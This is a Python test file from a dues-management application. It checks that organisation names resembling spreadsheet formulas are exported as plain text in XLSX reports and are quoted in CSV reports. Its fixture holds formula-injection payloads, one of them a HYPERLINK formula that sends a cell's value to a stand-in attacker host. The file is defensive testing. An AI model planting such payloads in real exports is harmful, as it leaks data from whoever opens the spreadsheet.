"""Finding 3 of issue 14: typed text is a text cell in the XLSX report (never a formula), and the CSV quotes
what looks like a formula; one rule (report_files.looks_like_formula) for both."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from conftest import make_member, make_org, make_user
from openpyxl import load_workbook

from duesflow.extensions import db
from duesflow.workflow import OrgKind

YEAR = 2024
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+1+2党委", "-2+3党委", "@SUM(A1)党委",
            "\t=1+1党委", "\r=1+1党委"]


@pytest.fixture
def sneaky_orgs(api, world) -> list[str]:
    """One grassroots org per formula under 北京, each with a payment in YEAR."""
    for index, name in enumerate(FORMULAS):
        org = make_org(name, OrgKind.GRASSROOTS, world.orgs["beijing"])
        make_user(f"clerk_sneaky{index}", "clerk", org)
        member = make_member(org, "赵六")
        db.session.commit()
        api.record(member, as_user=f"clerk_sneaky{index}", collected_on=f"{YEAR}-05-05")
    return FORMULAS


def _summary(api, file_format: str):  # noqa: ANN202
    response = api.get("/reports/summary", "beijing",
                       query_string={"year": str(YEAR), "group_by": "org", "format": file_format})
    assert response.status_code == 200
    return response


def test_an_org_name_that_looks_like_a_formula_is_a_text_cell_in_the_xlsx(api, sneaky_orgs):
    data = _summary(api, "xlsx").data
    sheet = load_workbook(io.BytesIO(data)).active
    cells = {row[1].value: row[1] for row in sheet.iter_rows(min_row=3) if row[1].value in sneaky_orgs}
    assert set(cells) == set(sneaky_orgs)
    assert {cell.data_type for cell in cells.values()} == {"s"}
    assert all(cell.quotePrefix for cell in cells.values())
    for name in zipfile.ZipFile(io.BytesIO(data)).namelist():
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read(name)  # no formula anywhere


def test_an_org_name_that_looks_like_a_formula_is_quoted_in_the_csv(api, sneaky_orgs):
    rows = list(csv.reader(io.StringIO(_summary(api, "csv").data.decode("utf-8-sig"), newline="")))
    names = {row[1] for row in rows[1:]}
    assert {"'" + name for name in sneaky_orgs} <= names
